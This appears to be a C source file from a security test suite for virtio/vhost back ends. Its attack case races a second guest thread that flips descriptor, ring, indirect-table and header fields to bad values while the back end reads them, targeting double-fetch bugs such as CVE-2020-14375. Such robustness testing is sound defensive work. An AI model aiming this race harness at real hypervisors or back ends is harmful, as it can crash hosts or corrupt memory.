// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * attack_race.c - R5: a second processor of the guest changes everything while the back end reads
 * it.
 *
 * One thread plays a driver that posts good buffers and frames. The other one rewrites words of
 * descriptors, indirect tables, available rings, event suppression and virtio-net headers, mostly
 * for a moment and back to what they were, so that the ring stays alive and what was checked is
 * not what is used later. When the back end gives a ring up the front end starts again with the
 * other ring format.
 */
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

struct racer {
	struct fe *fe;
	bool stop;
	uint64_t n_changes;
};

static uint64_t next_random(uint64_t *x)
{
	*x ^= *x << 13;
	*x ^= *x >> 7;
	*x ^= *x << 17;
	return *x;
}

/* Values a check would catch, if it were made on what is used. */
static uint32_t bad_value(uint64_t r)
{
	static const uint32_t values[] = {0,	 1,	   11,	     12,	 13,	    16,
					  255,	 256,	   257,	     0x7fff,	 0x8000,    0xffff,
					  65536, 1u << 20, 1u << 31, 0xfffffff0, 0xffffffff};

	return values[r % ARRAY_SIZE(values)];
}

/*
 * Another value, and back, several times: whoever reads twice will see both. What the driver writes
 * meanwhile is not lost. Sixteen bits at a time, as indices are.
 */
#define FLIPS 24

static void flip16(uint16_t *at, uint16_t value)
{
	for (int i = 0; i < FLIPS; i++) {
		uint16_t now = value, before = __atomic_exchange_n(at, value, __ATOMIC_RELAXED);

		__atomic_compare_exchange_n(at, &now, before, false, __ATOMIC_RELAXED,
					    __ATOMIC_RELAXED);
	}
}

static void flip32(uint32_t *at, uint32_t value)
{
	for (int i = 0; i < FLIPS; i++) {
		uint32_t now = value, before = __atomic_exchange_n(at, value, __ATOMIC_RELAXED);

		__atomic_compare_exchange_n(at, &now, before, false, __ATOMIC_RELAXED,
					    __ATOMIC_RELAXED);
	}
}

static void flip_table(void *table, unsigned int at, uint64_t r)
{
	struct fe_desc *d = (struct fe_desc *)table + at;

	switch (r % 5) {
	case 0:
		flip32((uint32_t *)&d->gpa + 1, bad_value(r >> 32));
		break;
	case 1:
		flip32((uint32_t *)&d->gpa, (uint32_t)(r >> 32));
		break;
	case 2:
		flip32(&d->bytes, bad_value(r >> 32));
		break;
	case 3:
		flip16(&d->flags, r >> 32);
		break;
	case 4:
		flip16(&d->next, bad_value(r >> 32));
		break;
	}
}

/* A position of the ring that the back end is about to read, or is reading. */
static unsigned int hot(const struct fe_ring *q, uint64_t r)
{
	uint16_t at = __atomic_load_n(&q->avail_idx, __ATOMIC_RELAXED);

	if (r % 4 == 0)
		return (r >> 2) % q->num;
	return (at + q->num - 12 + (r >> 2) % 16) % q->num;
}

static unsigned int hot_desc(const struct fe_ring *q, uint64_t r)
{
	unsigned int at = hot(q, r);

	if (!q->packed)
		at = __atomic_load_n(&q->avail->ring[at], __ATOMIC_RELAXED) % q->num;
	return at;
}

static void change_something(struct fe_ring *q, uint64_t r)
{
	struct fe *fe = q->fe;
	unsigned int at = hot(q, r >> 12), desc = hot_desc(q, r >> 12);

	switch (r & 7) {
	case 0:
	case 1:
		flip_table(q->desc, desc, r >> 3);
		break;
	case 2: /* entries of the available ring, event suppression */
		if (q->packed)
			flip16(&q->driver_event->off_wrap + (r >> 9) % 2, r >> 32);
		else
			flip16(&q->avail->ring[at], bad_value(r >> 32));
		break;
	case 3: /* indirect tables */
		if (q->indirect_gpa)
			flip_table(fe_mem_va(fe,
					     q->indirect_gpa + desc * FE_INDIRECT_MAX *
								       sizeof(struct fe_desc),
					     64),
				   (r >> 9) % 4, r >> 3);
		break;
	case 4: /* headers and frames */
	case 5:
		flip16((uint16_t *)fe_mem_va(fe, q->pool[(r >> 3) % q->pool_n], 64) +
			       (r >> 16) % 24,
		       bad_value(r >> 32));
		break;
	case 6: /* what the device writes */
		if (q->packed)
			flip16(&q->device_event->off_wrap + (r >> 9) % 2, r >> 32);
		else
			flip16((uint16_t *)q->used + (r >> 9) % (2 + 4u * q->num), r >> 32);
		break;
	case 7: /* the index, a little and not often */
		if (!q->packed && (r >> 3) % 64 == 0)
			flip16(&q->avail->idx, q->avail->idx + (r >> 32) % 5 - 2);
		else if (!q->packed)
			flip16(&q->avail->ring[q->num], r >> 32);
		break;
	}
}

static void *race(void *arg)
{
	struct racer *racer = arg;
	uint64_t x = 0x2545f4914f6cdd1dull;

	while (!__atomic_load_n(&racer->stop, __ATOMIC_RELAXED)) {
		uint64_t r = next_random(&x);

		change_something(&racer->fe->ring[(r >> 60) & 1], r);
		if (++racer->n_changes % 128 == 0)
			usleep(100); /* two processors for everybody */
	}
	return NULL;
}

/* The driver: until a ring is given up, the connection ends, or @end is reached. */
static void drive(struct attack *a, time_t end)
{
	for (unsigned int i = 0; time(NULL) < end; i++) {
		exchange_step(&a->exchange, 16);
		if (i % 16)
			continue;
		attack_poke(a, 8); /* no more, or the wire's load is what hurts the other port */
		exchange_drain(&a->exchange, 0);
		/* what the racer broke in our own books: start again */
		if (attack_broken(a, 0) || a->fe->n_bad || fe_tx(a->fe, 0)->pool_n_free < 32)
			return;
		usleep(200);
	}
}

static int race_round(struct attack *a, struct racer *racer, unsigned int round, time_t end)
{
	const unsigned int kinds[] = {0, STEP_PACKED, STEP_OFFLOAD, STEP_PACKED | STEP_OFFLOAD,
				      STEP_NO_MRG};
	pthread_t thread;
	int err;

	fe_close(&a->fe);
	err = attack_open(kinds[round % ARRAY_SIZE(kinds)], &a->fe);
	if (err)
		return err;
	exchange_init(&a->exchange, a->fe, a->wire_fd, 0x40);
	a->exchange.all_layouts = true;
	err = attack_connect(a, AT_RUNNING);
	if (err)
		return err;
	racer->fe = a->fe;
	racer->stop = false;
	err = -pthread_create(&thread, NULL, race, racer);
	if (err)
		return err;
	drive(a, MIN(end, time(NULL) + 5));
	__atomic_store_n(&racer->stop, true, __ATOMIC_RELAXED);
	pthread_join(thread, NULL);
	return 0;
}

static int race_for_a_while(struct attack *a, uint64_t arg)
{
	time_t end = time(NULL) + a->race_seconds;
	struct racer racer = {0};
	unsigned int rounds = 0;
	int err = 0;

	while (!err && time(NULL) < end)
		err = race_round(a, &racer, rounds++, end);
	snprintf(a->note, sizeof(a->note), "%llu changes, %u starts",
		 (unsigned long long)racer.n_changes, rounds);
	return err;
}

static const struct step r5[] = {
	{"rings, tables, headers and frames change while they are read (CVE-2020-14375, "
	 "CVE-2026-86562, CVE-2026-93683, vm-memory 98)",
	 race_for_a_while, 0, AT_NOTHING, WANT_ANY, 0},
};

const struct attack_case race_cases[] = {
	STEPS("R5", r5),
	{NULL, NULL, 0},
};
